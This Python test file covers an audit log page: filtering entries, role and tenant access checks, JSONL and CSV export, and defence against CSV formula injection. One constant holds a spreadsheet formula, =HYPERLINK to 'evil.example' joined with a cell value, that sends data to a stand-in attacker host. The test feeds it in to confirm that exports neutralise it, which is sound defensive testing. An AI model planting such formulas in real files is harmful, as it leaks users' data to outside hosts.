"""The page of the audit: what it finds, who reads it, and what its files have."""

import csv
import io
import json
from datetime import UTC, datetime, timedelta
from types import SimpleNamespace
from typing import Any

import pytest

from outlast.agents.errors import RunNotFound
from outlast.client import audit as read_audit_module
from outlast.client import audit_export
from outlast.client.audit import AuditLog, AuditRecord, UnreadRun
from outlast.client.run_facts import RunFacts
from outlast.serve.pages import audit
from tests.unit.serve.hostile_pages import HOSTILE, active_content
from tests.unit.serve.played import PlayedRuns, browser_of, desk_of

NOON = int(datetime(2026, 11, 20, 12, tzinfo=UTC).timestamp() * 1_000)
CLIENT: Any = SimpleNamespace(namespace="default")
FORMULA = '=HYPERLINK("https://evil.example/"&A1)'


def entry(**fields: Any) -> AuditRecord:
    named: dict[str, Any] = {"at_ms": NOON, "event": "vote", "run_id": "r", "root_run_id": "r"}
    return AuditRecord(**{**named, **fields})


class Histories:
    """What the functions of `outlast audit` return."""

    def __init__(self, monkeypatch: pytest.MonkeyPatch, *records: AuditRecord) -> None:
        self.log = AuditLog(records=records)
        self.asked: list[Any] = []
        monkeypatch.setattr(read_audit_module, "audit_since", self._since)
        monkeypatch.setattr(read_audit_module, "audit_run", self._run)
        monkeypatch.setattr(audit_export, "proofs_of", self._proofs)

    async def _since(self, _client: Any, since: datetime, **options: Any) -> AuditLog:
        self.asked.append((since, options))
        return self.log

    async def _run(self, _client: Any, run_id: str) -> AuditLog:
        self.asked.append(run_id)
        if run_id == "none":
            raise RunNotFound("There is no run 'none'.")
        return self.log

    async def _proofs(self, _client: Any, _log: Any) -> Any:
        return {}


async def ask(path: str, roles: Any = ("decider",), **fields: Any) -> Any:
    app = desk_of(PlayedRuns({}), audit.ROUTES, roles=roles, client=CLIENT, **fields)
    async with browser_of(app) as http:
        return await http.get(path)


async def test_nothing_is_read_before_somebody_asks(monkeypatch: pytest.MonkeyPatch) -> None:
    histories = Histories(monkeypatch)
    assert "Who did what, and when" in (await ask("/audit")).text
    assert histories.asked == []


async def test_entries_are_found_by_person_act_time_and_conversation(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    later = NOON + 86_400_000
    histories = Histories(
        monkeypatch,
        entry(by="ann@example.com", note="first"),
        entry(by="bob", display="Bob Ann-Other", event="held", note="second"),
        entry(by="cleo", note="third", at_ms=later),
    )

    async def notes(query: str) -> set[str]:
        text = (await ask(f"/audit?{query}")).text
        return {one for one in ("first", "second", "third") if one in text}

    assert await notes("person=ANN") == {"first", "second"}
    assert await notes("act=held") == {"second"}
    assert await notes("from=2026-11-19&to=2026-11-20") == {"first", "second"}
    assert await notes("run=r") == {"first", "second", "third"}
    assert await notes("person=nobody") == set()
    assert histories.asked[2][0] == datetime(2026, 11, 19, tzinfo=UTC)
    assert histories.asked[3] == "r"
    since = histories.asked[0][0]
    assert timedelta(hours=23) < datetime.now(UTC) - since < timedelta(hours=25)  # noqa: TID251
    # What does not fit counts as not asked.
    assert await notes("act=nonsense&from=yesterday&person=ann") == {"first", "second"}


async def test_what_may_be_missing_is_said(monkeypatch: pytest.MonkeyPatch) -> None:
    histories = Histories(monkeypatch)
    unread = (UnreadRun(run_id="gone", why="Its history is no longer retained."),)
    histories.log = AuditLog(records=(), unread=unread, is_cut=True)
    text = (await ask("/audit?person=ann")).text
    assert "Only 300 conversations were read" in text
    assert "gone: Its history is no longer retained." in text


@pytest.mark.parametrize(
    ("roles", "status"), [(["viewer"], 403), (["decider"], 200), (["operator"], 200), ([], 403)]
)
async def test_only_those_read_it_who_may(
    monkeypatch: pytest.MonkeyPatch, roles: list[str], status: int
) -> None:
    histories = Histories(monkeypatch, entry(note="secret"))
    for path in ("/audit?person=a", "/audit?run=r", "/audit/export?run=r"):
        answer = await ask(path, roles)
        assert answer.status_code == status, path
        assert status == 200 or "secret" not in answer.text
    assert status == 200 or histories.asked == []


async def test_somebody_of_a_tenant_reads_what_is_of_the_tenant(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    histories = Histories(
        monkeypatch,
        entry(run_id="a1", root_run_id="a", note="of acme"),
        entry(run_id="b", root_run_id="b", note="of globex"),
    )
    histories.log = AuditLog(
        records=histories.log.records, unread=(UnreadRun(run_id="globex-7", why="away"),)
    )

    async def facts(_self: Any, run_id: str) -> RunFacts | None:
        tenants = {"a": "acme", "b": "globex"}
        return RunFacts(root_id=run_id, tenant=tenants[run_id]) if run_id in tenants else None

    monkeypatch.setattr("outlast.serve.routing.Desk.facts", facts)
    roles = ["decider@tenant:acme"]
    for path in ("/audit?person=&act=vote", "/audit/export?act=vote"):
        text = (await ask(path, roles)).text
        assert "of acme" in text
        assert "globex" not in text
    [scope] = histories.asked[0][1]["scopes"]
    assert scope.tenants == {"acme"}
    assert (await ask("/audit?run=a", roles)).status_code == 200
    theirs, nobodys = [await ask(f"/audit?run={one}", roles) for one in ("b", "none")]
    assert theirs.status_code == nobodys.status_code == 404
    assert "globex" not in theirs.text


async def test_a_file_has_what_the_page_shows(monkeypatch: pytest.MonkeyPatch) -> None:
    found = [entry(by="ann", note=f"n{at}") for at in range(400)]
    Histories(monkeypatch, *found, entry(by="bob", note="other"))
    page = (await ask("/audit?person=ann")).text
    assert "400 entries, the newest 300 are shown" in page
    assert "/audit/export?form=csv&amp;person=ann" in page
    answer = await ask("/audit/export?person=ann")
    assert answer.headers["content-disposition"] == 'attachment; filename="audit.jsonl"'
    lines = [json.loads(line) for line in answer.text.splitlines()]
    assert [one["note"] for one in lines] == [f"n{at}" for at in range(400)]
    assert lines[0]["at"] == "2026-11-20T12:00:00.000+00:00"
    table = (await ask("/audit/export?form=csv&person=ann")).text
    rows = list(csv.DictReader(io.StringIO(table)))
    assert [one["note"] for one in rows] == [f"n{at}" for at in range(400)]


async def test_no_cell_of_a_file_is_a_formula(monkeypatch: pytest.MonkeyPatch) -> None:
    texts = [FORMULA, "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1", *HOSTILE]
    Histories(
        monkeypatch,
        *(entry(by=one, display=one, note=one, text=one, tool=one, groups=(one,)) for one in texts),
    )
    answer = await ask("/audit/export?form=csv&act=vote")
    assert answer.headers["content-type"].startswith("text/csv")
    rows = list(csv.reader(io.StringIO(answer.text)))
    assert len(rows) == len(texts) + 1
    begins = {one.lstrip()[:1] for row in rows for one in row if one}
    assert not begins & set("=+-@\uff1d")
    page = (await ask("/audit?act=vote")).text
    assert active_content(page) == []
